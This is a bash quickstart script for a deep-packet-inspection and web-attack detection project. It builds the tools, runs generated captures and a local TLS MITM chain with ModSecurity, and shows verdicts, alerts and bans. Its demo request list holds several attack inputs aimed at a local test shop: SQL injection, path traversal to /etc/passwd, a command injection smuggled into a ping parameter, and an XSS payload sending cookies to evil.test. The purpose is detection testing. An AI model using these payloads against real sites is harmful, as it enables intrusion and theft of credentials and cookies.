#!/bin/bash
# Quick start: install what is needed, build, and run what is built on traffic
# the project generates — the TAP stream (dpi-collector on generated captures),
# then the MITM stream (curl -> HAProxy -> mitmdump + addon -> dpi-bridge-mitm ->
# dpi-buffer -> dpi-correlator) with clean requests and attacks: live verdicts,
# deep-analysis alerts, correlated threats and the ban they cause. As root, from
# the top of the source tree:
#     deploy/quickstart.sh
set -euo pipefail
cd "$(dirname "$0")/.."
deploy/install-deps.sh
cmake -S . -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
cmake --build build -j "$(nproc)"

run=$(mktemp -d /tmp/dpi-dual-demo.XXXXXX)
tail_pid=""
TMP=$run BUILD_DIR=$PWD/build SOURCE_DIR=$PWD
fail() { echo "quickstart: $*" >&2; exit 1; }
. tests/lib/mitm_chain.sh
trap '[ -n "$tail_pid" ] && kill "$tail_pid" 2> /dev/null; chain_stop; rm -rf "$run"' EXIT
cat > "$run/dpi-dual.yaml" <<YAML
global:
  run_dir: $run/run
  state_dir: $run/state
YAML

echo "== sample traffic: captures made by dpi-pcapgen (HTTP over TCP, DNS over IPv4 and IPv6,"
echo "   802.1Q/QinQ, IP-in-IP/6in4/4in6 tunnels, ICMP, malformed packets)"
captures=()
for scenario in tcp-http dns vlan tunnels icmp malformed; do
    build/tests/dpi-pcapgen "$scenario" "$run/$scenario.pcap" > /dev/null
    captures+=(-r "$run/$scenario.pcap")
done

echo "== dpi-collector classifies them with nDPI and publishes tap.flow on the bus;"
echo "   dpi-dualctl tail subscribes and prints each event as one JSON line"
build/ctl/dpi-dualctl tail -c "$run/dpi-dual.yaml" --timeout 30 tap.flow > "$run/events.jsonl" &
tail_pid=$!
build/collector/dpi-collector -c "$run/dpi-dual.yaml" "${captures[@]}"
sleep 0.5
kill -INT "$tail_pid" 2> /dev/null || true
wait "$tail_pid" 2> /dev/null || true
tail_pid=""

echo
echo "== the flows (END events), from the JSON lines:"
python3 - "$run/events.jsonl" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
ends = [r for r in rows if r.get("event") == "END"]
print(f"{'proto':<12} {'src':>22}    {'dst':<22} {'vlan':>4} {'pkts':>9} {'host / query':<24} community_id")
for r in ends:
    src = f"{r['src_ip']}:{r['src_port']}"
    dst = f"{r['dst_ip']}:{r['dst_port']}"
    host = r.get("host_server_name") or r.get("dns_query") or ""
    pkts = f"{r['src2dst_packets']}/{r['dst2src_packets']}"
    print(f"{r['proto']:<12} {src:>22} -> {dst:<22} {r['vlan']:>4} {pkts:>9} {host:<24} {r['community_id']}")
print(f"{len(rows)} tap.flow events received on the bus, {len(ends)} flows")
PY

echo
echo "== the MITM stream: HAProxy (TLS) -> mitmdump + the dpi_bridge.py addon -> backend;"
echo "   dpi-bridge-mitm gives live verdicts (ban list, fast rules), dpi-buffer analyses"
echo "   every request off the request path with the OWASP CRS (ModSecurity); dpi-collector"
echo "   captures the same connections on loopback (the TAP stream) and dpi-correlator joins"
echo "   both, scores each client and bans"
chain_ports 3
read -r p_back p_mitm p_tls <<< "${CHAIN_PORTS[*]}"
cat >> "$run/dpi-dual.yaml" <<YAML
mitm:
  socket: $run/run/bridge-mitm.sock
  trusted_proxies: ["127.0.0.1"]
  rules_file: $PWD/deploy/bridge-mitm/rules.yaml
  verdict_deadline_ms: 20
buffer:
  modsecurity_conf: $PWD/deploy/buffer/modsecurity.conf
  analysis_threads: 2
tap:
  interface: lo
  bpf: "tcp port $p_tls"
YAML
chain_tls
chain_haproxy "$p_tls" "$p_mitm"
chain_spawn "$run/backend.log" python3 tests/mitm/backend.py "$p_back" "$run/backend.hits"
chain_spawn "$run/bridge.log" build/bridge-mitm/dpi-bridge-mitm -c "$run/dpi-dual.yaml"
chain_spawn "$run/buffer.log" build/buffer/dpi-buffer -c "$run/dpi-dual.yaml"
chain_spawn "$run/correlator.log" build/correlator/dpi-correlator -c "$run/dpi-dual.yaml"
# the TAP side of the same connections: dpi-collector capturing loopback live, so the
# correlator joins each request to its flow by Community ID
chain_spawn "$run/collector.log" build/collector/dpi-collector -c "$run/dpi-dual.yaml"
chain_spawn "$run/tail.err" sh -c "exec build/ctl/dpi-dualctl tail -c '$run/dpi-dual.yaml' \
    mitm.verdict buffer.alert correlated.threat decision > '$run/mitm.jsonl'"
chain_mitmdump "$run/mitm.log" "$p_mitm" "$p_back" "$run/run/bridge-mitm.sock" \
    --set dpi_verdict_deadline_ms=20
chain_spawn "$run/haproxy.log" haproxy -db -f "$run/haproxy.cfg"
chain_wait 30 test -S "$run/run/buffer.query" || fail "dpi-buffer did not start (see $run/buffer.log)"
chain_wait 30 test -S "$run/run/correlator.query" \
    || fail "dpi-correlator did not start (see $run/correlator.log)"
chain_wait 30 test -S "$run/run/collector.pub" \
    || fail "dpi-collector did not start (see $run/collector.log)"
chain_wait 30 port_open "$p_mitm" || fail "mitmdump did not start"
chain_wait 10 port_open "$p_tls" || fail "haproxy did not start"

req() {
    local from=$1; shift
    curl -sk --max-time 10 --resolve "shop.test:$p_tls:127.0.0.1" --interface "$from" \
        -o /dev/null -w "%{http_code}" -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0" \
        -H "Accept: text/html" "$@" || true
}
url="https://shop.test:$p_tls"
printf '%-10s %-62s %s\n' client request status
while read -r from what; do
    # shellcheck disable=SC2086
    printf '%-10s %-62.62s %s\n' "$from" "$what" "$(req "$from" $what)"
done <<REQS
127.0.0.2 $url/
127.0.0.2 $url/catalogue?page=2&sort=price
127.0.0.2 $url/cart --data item=42&qty=1
127.0.0.3 $url/search?q=1%27%20union%20select%20password%20from%20users--
127.0.0.4 $url/view?file=../../../../etc/passwd
127.0.0.5 $url/ping?host=127.0.0.1%3Bcat%20/etc/passwd
127.0.0.6 $url/comment --data text=%3Cscript%3Edocument.location%3D%27//evil.test/%27%2Bdocument.cookie%3C/script%3E
127.0.0.3 $url/search?q=1%27%20or%201%3D1--
REQS
sleep 3
echo "(127.0.0.3 again, a clean request, after its second injection:)"
printf '%-10s %-62s %s\n' 127.0.0.3 "$url/" "$(req 127.0.0.3 "$url/")"
echo
echo "== what the bridge blocked live (mitm.verdict), what dpi-buffer found (buffer.alert),"
echo "   what dpi-correlator made of both (correlated.threat: points, the client's reputation)"
echo "   and the ban it published (decision) — which the bridge enforces on the next request:"
python3 - "$run/mitm.jsonl" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    m = json.loads(line)
    if m["topic"] == "mitm.verdict":
        print(f"verdict  {m['client_ip']:<10} {m['action']:<6} {m['reason']} {m['rule_id']} ({m['category']})")
    elif m["topic"] == "correlated.threat":
        print(f"threat   {m['client_ip']:<10} {m['event_type']:<10} +{m['score']:<3} reputation "
              f"{m['reputation']:>3}  joined by {m['join']}{'  -> BAN' if m['banned'] else ''}")
    elif m["topic"] == "decision":
        print(f"decision {m['value']:<10} {m['action']} for {m['duration_s']} s ({m['origin']}): {m['reason']}")
    else:
        rules = ",".join(m["rule_ids"][:6])
        pl = f"replay PL{m['paranoia']}" if m["replay"] else f"PL{m['paranoia']}"
        print(f"alert    {m['client_ip']:<10} {m['method']:<5}{m['path']:<12} {pl:<10} CRS score"
              f" {m['anomaly_score']:>3}  {m['category']:<9} rules {rules}")
PY
echo "(a score of buffer.replay_on_score (20) or more replays the client at paranoia 3;"
echo " every request stays in dpi-buffer's ring: dpi-dualctl context IP, dpi-dualctl buffer dump N)"
